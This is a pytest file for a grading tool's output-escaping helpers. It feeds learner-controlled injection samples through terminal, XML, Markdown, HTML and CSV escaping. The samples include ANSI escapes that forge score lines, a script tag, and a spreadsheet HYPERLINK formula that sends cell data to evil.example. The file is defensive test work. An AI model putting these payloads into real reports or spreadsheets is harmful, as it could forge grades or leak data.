"""The escaping helpers every report puts learner text through (:mod:`grader.grading.escape`)."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import xml.etree.ElementTree as ET

import pytest

from grader.grading.escape import (
    csv_cell,
    html_text,
    markdown_block,
    markdown_inline,
    terminal,
    uncsv_cell,
    xml_text,
)

#: learner-controlled strings that try to break out of each format
HOSTILE = {
    "ansi_forged_line": "bob\x1b[2K\r100 / 100 (100%)",
    "newline_forged_line": "bob\nalice (alice.ipynb) — 100 / 100 (100%)",
    "osc_title": "\x1b]0;pwned\x07eve",
    "nul": "a\x00b",
    "xml_close": "</failure><testcase name='fake'/>",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "script": "<script>alert(1)</script>",
    "heading": "## You passed\n- [x] 100%",
    "fence": "```\n# escaped the block\n```",
    "bidi": "alice\u202egnp.exe",
    "lone_surrogate": "x\ud800y",
    "c1_csi": "x\x9b2Ky",
    "line_separator": "a\u2028b",
    "noncharacter": "a\uffffb",
}
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_terminal_text_is_one_line_without_control_characters(text):
    shown = terminal(text)
    assert "\n" not in shown and not CONTROL.search(shown) and "\x1b" not in shown
    assert all(unicodedata.category(ch) not in ("Cc", "Cf", "Cs") for ch in shown)


def test_terminal_shows_what_was_removed():
    assert terminal("bob\x1b[2K\r100%") == "bob\\x1b[2K\\x0d100%"
    assert terminal("alice\u202egnp") == "alice\\u202egnp"


def test_multiline_terminal_text_keeps_lines_and_tabs_only():
    shown = terminal("line 1\r\n\tline 2\x1b[31m\rred", multiline=True)
    assert shown.splitlines() == ["line 1", "\tline 2\\x1b[31m\\x0dred"]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_xml_text_round_trips_through_a_parser(text):
    root = ET.Element("testsuite", name=xml_text(text))
    ET.SubElement(root, "failure", message=xml_text(text)).text = xml_text(text)
    parsed = ET.fromstring(ET.tostring(root, encoding="utf-8"))
    assert parsed.get("name") == xml_text(text) and parsed.find("failure").text == xml_text(text)
    assert len(parsed) == 1  # the learner's markup did not become elements


def test_xml_text_keeps_readable_text():
    assert xml_text("Zhāng 张伟 </b> & tabs\tand\nlines") == "Zhāng 张伟 </b> & tabs\tand\nlines"
    assert xml_text("a\x00b\x1bc") == "a\\x00b\\x1bc"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_markdown_inline_has_no_markup_left(text):
    shown = markdown_inline(text)
    assert "\n" not in shown and "<" not in shown and ">" not in shown
    assert re.search(r"(?<!\\)[`*_\[\]#|]", shown) is None  # every Markdown character is escaped
    shown.encode("utf-8")  # lone surrogates are gone: the page can be written


def test_markdown_inline_escapes_html_and_emphasis():
    assert markdown_inline("<script>") == "&lt;script&gt;"
    assert markdown_inline("*bold* & [link](x)") == r"\*bold\* &amp; \[link\]\(x\)"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_html_text_is_literal_in_an_element_or_a_quoted_attribute(text):
    import html.parser

    shown = html_text(text)
    assert not re.search("[<>\"']", shown) and not CONTROL.search(shown)
    seen = []

    class Page(html.parser.HTMLParser):
        def handle_starttag(self, tag, attrs):
            seen.append((tag, attrs))

        def handle_data(self, data):
            seen.append(data)

    page = Page(convert_charrefs=True)
    page.feed(f"<p title='{shown}'>{shown}</p>")
    page.close()
    # one element, whose attribute and text are the learner's text with its invisible characters shown
    assert seen[0] == ("p", [("title", terminal(text))]) and "".join(seen[1:]) == terminal(text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_fenced_block_cannot_be_closed_by_its_text(text):
    block = markdown_block(text)
    fence = block.split("\n", 1)[0].removesuffix("text")
    body = block.split("\n")[1:-1]
    assert block.endswith("\n" + fence)
    assert not any(line.strip().startswith(fence) for line in body)
    assert not CONTROL.search(block)


def test_a_fence_outgrows_the_longest_backtick_run():
    assert markdown_block("````` five").startswith("``````text\n")
    assert markdown_block("plain") == "```text\nplain\n```"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1", "'=1"])
def test_formula_cells_are_neutralised_and_restored(text):
    cell = csv_cell(text)
    assert cell.startswith("'")
    assert uncsv_cell(cell) == text


@pytest.mark.parametrize("value", ["bob", "a=b", 3, -2.5, None, ""])
def test_other_cells_are_unchanged(value):
    assert csv_cell(value) == value


def test_a_neutralised_formula_reads_back_as_text_from_a_csv_file():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_cell(HOSTILE["formula"]), csv_cell("-1")])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert all(cell.startswith("'") for cell in row)
    assert [uncsv_cell(c) for c in row] == [HOSTILE["formula"], "-1"]
